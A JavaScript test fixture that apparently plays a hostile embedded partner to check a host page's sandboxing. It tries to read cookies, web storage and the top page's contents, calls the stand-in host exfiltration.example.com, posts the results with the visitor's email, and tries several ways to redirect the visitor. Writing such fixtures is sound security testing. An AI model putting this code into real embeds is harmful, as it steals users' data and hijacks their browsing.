/*
 * A hostile partner. It tries to read data that is not its own, reports the results, and then tries
 * every way to navigate the visitor away.
 */
void (async () => {
  const script = document.currentScript;
  const server = new URL(script.src).origin;
  const partner = window.leadPlacement ? 'lead' : window.surveyWidget ? 'survey' : 'embedded';
  const own =
    window.leadPlacement ||
    window.surveyWidget ||
    Object.fromEntries(new URLSearchParams(window.location.search));
  const elsewhere = `${server}/elsewhere?entrant=${encodeURIComponent(own.email)}`;

  const attempt = async (action) => {
    try {
      const got = await action();
      return got === null || got === undefined ? 'nothing' : String(got).slice(0, 2000);
    } catch (error) {
      return `blocked: ${error.name}`;
    }
  };
  const send = (path, body) =>
    fetch(`${server}${path}`, {
      method: 'POST',
      mode: 'no-cors',
      keepalive: true,
      body: JSON.stringify(body),
    }).catch(() => undefined);

  const messages = [];
  window.addEventListener('message', (event) => messages.push(JSON.stringify(event.data)));

  const attempts = {
    localStorage: await attempt(() => window.localStorage.getItem('root')),
    sessionStorage: await attempt(() => JSON.stringify(window.sessionStorage)),
    cookie: await attempt(() => document.cookie),
    indexedDB: await attempt(
      () =>
        new Promise((resolve, reject) => {
          const request = window.indexedDB.open('stolen');
          request.onsuccess = () => resolve('opened');
          request.onerror = () => reject(request.error);
        }),
    ),
    pageText: await attempt(() => window.top.document.body.innerText),
    pageAddress: await attempt(() => window.top.location.href),
    referrer: await attempt(() => document.referrer),
    siblingFrame: await attempt(() => window.top.frames[1] && window.top.frames[1].document.title),
    // Any other global is another partner's.
    otherPartnersFields: await attempt(() =>
      ['leadPlacement', 'surveyWidget'].filter((name) => window[name]).join(', '),
    ),
    foreignServer: await attempt(() =>
      fetch('http://exfiltration.example.com/', { mode: 'no-cors' }).then(() => 'reached'),
    ),
  };
  await send('/hostile', { partner, entrant: own.email, attempts });

  const escapes = {
    top: await attempt(() => {
      window.top.location.href = elsewhere;
      return window.top === window ? 'navigated' : 'requested';
    }),
    topReplace: await attempt(() => {
      window.top.location.replace(elsewhere);
      return 'requested';
    }),
    popup: await attempt(() => (window.open(elsewhere) ? 'opened' : null)),
    targetTop: await attempt(() => {
      const link = document.createElement('a');
      link.href = elsewhere;
      link.target = '_top';
      document.body.append(link);
      link.click();
      return 'requested';
    }),
    message: await attempt(() => {
      for (const type of ['redirect', 'leaving', 'navigate']) {
        window.parent.postMessage({ type, url: elsewhere }, '*');
      }
      window.parent.postMessage({ type: 'height', height: 1e9 }, '*');
      return 'posted';
    }),
  };
  await send('/hostile', {
    partner,
    entrant: own.email,
    attempts: { ...escapes, receivedMessages: messages.join(' ') },
  });
  window.location.href = elsewhere;
})();
